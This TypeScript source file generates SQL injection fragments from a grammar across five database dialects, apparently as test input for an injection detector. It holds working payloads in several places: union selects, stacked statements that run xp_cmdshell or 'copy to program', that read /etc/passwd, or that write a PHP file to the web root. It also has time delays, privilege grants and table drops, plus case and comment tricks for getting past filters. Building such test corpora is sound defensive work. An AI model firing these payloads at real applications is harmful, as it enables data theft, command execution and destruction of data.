// Fragments that change the statement into which an application pastes them, made from a grammar: dialect, place, break-out, production,
// mending of the tail, then spelling (letters, blanks, comments). Written from the manuals, independently of the detector.
import type { Random } from './random.ts';
import { DIALECTS, Terms, type Dialect } from './sql-terms.ts';

export interface Fragment {
  readonly family: string;
  /** One byte a character. */
  readonly value: string;
}

interface Place {
  readonly quote: '' | "'" | '"';
  readonly brackets: number;
}

const FAMILIES = {
  'boolean tail': boolean,
  'union select': union,
  'stacked statement': stacked,
  'time delay': delay,
  'error or network': leak,
  'joined expression': joined,
  'cut by a comment': cut,
  'order, group, having': order,
  'value replaced': replaced,
  'beyond five tokens': long,
} as const;
export const SQL_FAMILIES: readonly string[] = Object.keys(FAMILIES);

export function sqlFragments(random: Random, perFamily: number): Fragment[] {
  const made: Fragment[] = [];
  for (const [family, make] of Object.entries(FAMILIES)) {
    for (let count = 0; count < perFamily; count++) {
      const dialect = random.pick(DIALECTS);
      const place = placeFor(random, dialect);
      made.push({ family, value: spell(random, dialect, make(random, new Terms(random, dialect), place)) });
    }
  }
  return made;
}

function placeFor(random: Random, dialect: Dialect): Place {
  const quotes = dialect === 'mysql' ? ['', "'", "'", '"'] : ['', "'"];
  return { quote: random.pick(quotes) as Place['quote'], brackets: random.pick([0, 0, 0, 0, 1, 1, 2]) };
}

/** What a form sends, then the end of the literal and of the brackets around it. */
function breakOut(random: Random, { quote, brackets }: Place): string {
  const start =
    quote === ''
      ? random.oneOf(
          () => `${random.whole(0, 9999)}`,
          () => `-${random.whole(1, 99)}`,
          () => `${random.whole(1, 9)}.${random.whole(0, 9)}`,
        )
      : random.pick(['', '', 'x', 'admin', '1', '-1', 'ann@example.test', 'blue shoes', 'zz9', 'a%']);
  return `${start}${quote}${')'.repeat(brackets)}`;
}

function comment(random: Random, { dialect }: Terms): string {
  return dialect === 'mysql'
    ? random.pick(['-- -', '-- ', '#', '#x', '/*', ';-- -', '-- x'])
    : random.pick(['--', '--', '-- ', '--x', ';--', '/*']);
}

/** Cuts off the rest of the statement or opens again what was closed. */
function mend(random: Random, terms: Terms, place: Place): string {
  if (random.chance(0.5)) return `${random.pick(['', ' '])}${comment(random, terms)}`;
  const { quote, brackets } = place;
  const joiner = random.pick([' and ', ' or ']);
  if (brackets === 0) return quote === '' ? '' : `${joiner}${quote}a${quote}=${quote}a`;
  const opened = `${joiner}${'('.repeat(brackets)}`;
  return quote === '' ? `${opened}1=1` : `${opened}${quote}a${quote}=${quote}a`;
}

function logical(random: Random, dialect: Dialect): string {
  return random.pick(
    dialect === 'mysql' ? [' or ', ' and ', ' || ', ' && ', ' xor ', ' or ', ' and '] : [' or ', ' and '],
  );
}

function boolean(random: Random, terms: Terms, place: Place): string {
  return `${breakOut(random, place)}${logical(random, terms.dialect)}${terms.comparison()}${mend(random, terms, place)}`;
}

function union(random: Random, terms: Terms, place: Place): string {
  const columns = random
    .times(1, 9, () =>
      random.oneOf(
        () => 'null',
        () => `${random.whole(1, 99)}`,
        () => 'null',
        () => terms.fact(),
        () => terms.column(),
        () => terms.text(),
      ),
    )
    .join(',');
  const table = terms.dialect === 'oracle' ? random.pick(['dual', terms.table()]) : terms.table();
  const from = terms.dialect === 'oracle' || random.chance(0.5) ? ` from ${table}` : '';
  const word = random.pick(
    terms.dialect === 'mysql' ? ['union', 'union all', 'union distinct'] : ['union', 'union all', 'union all'],
  );
  const select = random.chance(0.15) ? `(select ${columns}${from})` : `select ${columns}${from}`;
  const start = random.chance(0.85) ? breakOut(random, place) : `${breakOut(random, place)} and 1=2`;
  const tail = place.quote === '' && place.brackets === 0 && random.chance(0.5) ? '' : comment(random, terms);
  return `${start} ${word} ${select}${tail === '' ? '' : ` ${tail}`}`;
}

function statement(random: Random, terms: Terms): string {
  const table = terms.table();
  const common = [
    `drop table ${table}`,
    `delete from ${table}`,
    `insert into ${table} values (${random.whole(1, 9)},${terms.text()})`,
    `update ${table} set password=${terms.text()}`,
    `create table t${random.whole(1, 99)} (a int)`,
    `alter table ${table} add x int`,
    terms.query(),
    `truncate table ${table}`,
  ];
  const own: Record<Dialect, readonly string[]> = {
    mysql: [
      `set @q=0x73656c6563742031;prepare s from @q;execute s`,
      `show warnings;drop table ${table}`,
      `show databases`,
      `do sleep(5)`,
      `select sleep(${random.whole(2, 9)})`,
      `handler ${table} open`,
      `load data infile '/etc/passwd' into table ${table}`,
      `call mysql.x()`,
      `grant all on *.* to 'x'@'%'`,
      `rename table ${table} to b`,
    ],
    postgresql: [
      `select pg_sleep(${random.whole(2, 9)})`,
      `copy ${table} to '/tmp/x'`,
      `copy (select 1) to program 'id'`,
      `select lo_import('/etc/passwd')`,
      `alter user x superuser`,
      `do $$begin perform pg_sleep(5); end$$`,
      `create function f() returns int as 'libc','system' language c`,
    ],
    sqlite: [
      `attach database '/tmp/x.db' as x`,
      `select load_extension('x')`,
      `pragma writable_schema=1`,
      `insert into sqlite_master values(1)`,
      `replace into ${table} values(1)`,
    ],
    mssql: [
      `waitfor delay '0:0:${random.whole(1, 20)}'`,
      `exec master..xp_cmdshell 'whoami'`,
      `exec xp_dirtree '\\\\e.test\\a'`,
      `declare @s varchar(99) set @s=0x31 exec(@s)`,
      `if (${terms.comparison()}) waitfor delay '0:0:5'`,
      `shutdown`,
      `exec sp_configure 'show advanced options',1`,
      `begin waitfor delay '0:0:5' end`,
    ],
    oracle: [
      `begin dbms_lock.sleep(${random.whole(2, 9)}); end`,
      `execute immediate 'grant dba to x'`,
      `begin null; end`,
      `delete from ${table} where 1=1`,
      `grant dba to scott`,
    ],
  };
  return random.oneOf(
    () => random.pick(common),
    () => random.pick(own[terms.dialect]),
    () => random.pick(own[terms.dialect]),
  );
}

function stacked(random: Random, terms: Terms, place: Place): string {
  const lead = random.chance(0.2) ? random.pick(['commit;', ';', 'select 1;', 'rollback;']) : '';
  const tail = random.pick([
    ';',
    '',
    `;${comment(random, terms)}`,
    comment(random, terms),
    ` ${comment(random, terms)}`,
  ]);
  const needed = place.quote !== '' && !/--|#|\/\*/.test(tail) ? ' --' : '';
  return `${breakOut(random, place)};${random.pick(['', ' '])}${lead}${statement(random, terms)}${tail}${needed}`;
}

function delay(random: Random, terms: Terms, place: Place): string {
  if (terms.dialect === 'mssql' && random.chance(0.7))
    return `${breakOut(random, place)} waitfor delay '0:0:${random.whole(1, 30)}'${random.chance(0.8) || place.quote !== '' ? '--' : ''}`;
  const call = terms.delay();
  const joiner = random.pick([
    ' and ',
    ' or ',
    terms.dialect === 'mysql' ? '-' : ' and ',
    terms.dialect === 'oracle' ? '||' : ' and 1=',
    '+',
  ]);
  return `${breakOut(random, place)}${joiner}${call}${mend(random, terms, place)}`;
}

function leak(random: Random, terms: Terms, place: Place): string {
  const joiner = random.pick([' and ', ' or ', ' and 1=', '||', '+', '-']);
  return `${breakOut(random, place)}${joiner}${terms.leak()}${mend(random, terms, place)}`;
}

/** An expression in place of a constant: the statement stays whole without a comment. */
function joined(random: Random, terms: Terms, { quote }: Place): string {
  const sub = random.oneOf(
    () => `(${terms.query()})`,
    () => terms.letter(),
    () => terms.fact(),
    () => terms.delay(),
    () => `(case when ${terms.comparison()} then 1 else 0 end)`,
  );
  const sign =
    terms.dialect === 'mssql' || terms.dialect === 'mysql'
      ? random.pick(['+', '-', '*', '/', '%'])
      : random.pick(['||', '+', '-', '*']);
  const blank = random.pick(['', ' ']);
  if (quote === '') {
    return `${random.whole(1, 999)}${blank}${random.pick(['-', '+', '*', '/', '='])}${blank}${sub.startsWith('(') ? sub : `(select ${sub}${terms.dialect === 'oracle' ? ' from dual' : ''})`}`;
  }
  return `${random.pick(['', 'x', '1', 'blue'])}${quote}${blank}${sign}${blank}${sub}${blank}${sign}${blank}${quote}${random.pick(['', '', 'x'])}`;
}

function cut(random: Random, terms: Terms, { quote, brackets }: Place): string {
  const closing = quote === '' ? random.pick(["'", '"']) : quote;
  const name = random.pick(['admin', 'root', 'ann', 'administrator', 'test@example.test', '1']);
  const tail = terms.dialect === 'mysql' ? random.pick(['-- -', '-- ', '#', '/*']) : random.pick(['--', '-- ', '/*']);
  return `${name}${closing}${')'.repeat(brackets)}${random.pick(['', ' '])}${tail}`;
}

function order(random: Random, terms: Terms, place: Place): string {
  const clause = random.oneOf(
    () => `order by ${random.whole(1, 40)}`,
    () => `order by (${terms.query()})`,
    () => `group by ${terms.column()} having ${terms.comparison()}`,
    () => `having ${terms.comparison()}`,
    () =>
      terms.dialect === 'mysql'
        ? 'procedure analyse(extractvalue(1,concat(0x3a,version())),1)'
        : `order by ${random.whole(1, 40)}`,
    () =>
      terms.dialect === 'mysql' ? `limit 1 into outfile '/var/www/a.php'` : `group by ${random.whole(1, 9)} having 1=1`,
    () => (terms.dialect === 'mysql' ? `limit 0,1 union select ${terms.fact()}` : `order by ${random.whole(1, 40)}`),
  );
  const tail = place.quote === '' && place.brackets === 0 && random.chance(0.5) ? '' : comment(random, terms);
  return `${breakOut(random, place)} ${clause}${tail === '' ? '' : ` ${tail}`}`;
}

/** The whole value is an expression where a number or a column name was expected. */
function replaced(random: Random, terms: Terms): string {
  return random.oneOf(
    () => `(${terms.query()})`,
    () =>
      `(case when ${terms.comparison()} then ${random.pick(['id', '1', 'name'])} else ${random.pick(['name', '0', '(select 1 union select 2)'])} end)`,
    () => `${random.pick(['id', 'name', 'price', '1'])},(${terms.query()})`,
    () => `${random.pick(['id', 'name', 'price'])} and ${terms.delay()}`,
    () => terms.leak(),
    () =>
      terms.dialect === 'mysql'
        ? `if(${terms.comparison()},sleep(5),0)`
        : `(select case when ${terms.comparison()} then 1 else 0 end${terms.dialect === 'oracle' ? ' from dual' : ''})`,
    () => `desc,(${terms.query()})`,
    () => `${random.pick(['users', 'items t', 'orders'])} where 1=1 ${comment(random, terms)}`,
  );
}

/** A harmless continuation first, so that a horizon of a few tokens ends before the production. */
function long(random: Random, terms: Terms, place: Place): string {
  const filler = random
    .times(2, 5, () =>
      random.oneOf(
        () => `and ${terms.column()}>${random.whole(0, 9)}`,
        () => `and ${terms.column()} is not null`,
        () => `and ${terms.column()} in (1,2,3)`,
        () => `and ${terms.column()} between 1 and 5`,
      ),
    )
    .join(' ');
  const last = random.oneOf(
    () => `union select ${terms.fact()}${terms.dialect === 'oracle' ? ' from dual' : ''}`,
    () => `or ${terms.comparison()}`,
    () => `and 1=(${terms.query()})`,
    () => `;${statement(random, terms)}`,
  );
  return `${breakOut(random, place)} ${filler} ${last} ${comment(random, terms)}`;
}

function spell(random: Random, dialect: Dialect, plain: string): string {
  let value = plain;
  const letters = random.pick(['lower', 'upper', 'mixed', 'lower']);
  if (letters === 'upper') value = outsideText(value, (part) => part.toUpperCase());
  if (letters === 'mixed')
    value = outsideText(value, (part) =>
      Array.from(part, (letter) => (random.chance(0.5) ? letter.toUpperCase() : letter)).join(''),
    );
  if (random.chance(0.6)) return value;
  const blanks = [
    '/**/',
    '\n',
    '\t',
    '\r\n',
    '\f',
    '/*x*/',
    '  ',
    ...(dialect === 'mysql' ? ['\v', '\xa0', '/*!*/', '/*a**/'] : []),
    ...(dialect === 'sqlite' || dialect === 'mssql' ? ['/* a b */', '--\n'] : []),
  ];
  const blank = random.pick(blanks);
  // The blank of a line comment stays, or it would be none.
  value = outsideText(value, (part) => part.replace(/(?<!--) (?!-- ?$|#)/g, () => (random.chance(0.7) ? blank : ' ')));
  if (dialect === 'mysql' && random.chance(0.3))
    value = value.replace(/\b(?:union|select|or|and|from)\b/gi, (word) =>
      random.chance(0.5) ? `/*!50000${word}*/` : word,
    );
  return value;
}

/** Leaves quoted text as it is. Before the first quote stands what a form sends. */
function outsideText(value: string, change: (part: string) => string): string {
  const parts = value.split(/('[^']*'|"[^"]*"|\$\w?\$[^$]*\$\w?\$)/);
  return parts.map((part, index) => (index % 2 === 0 ? change(part) : part)).join('');
}
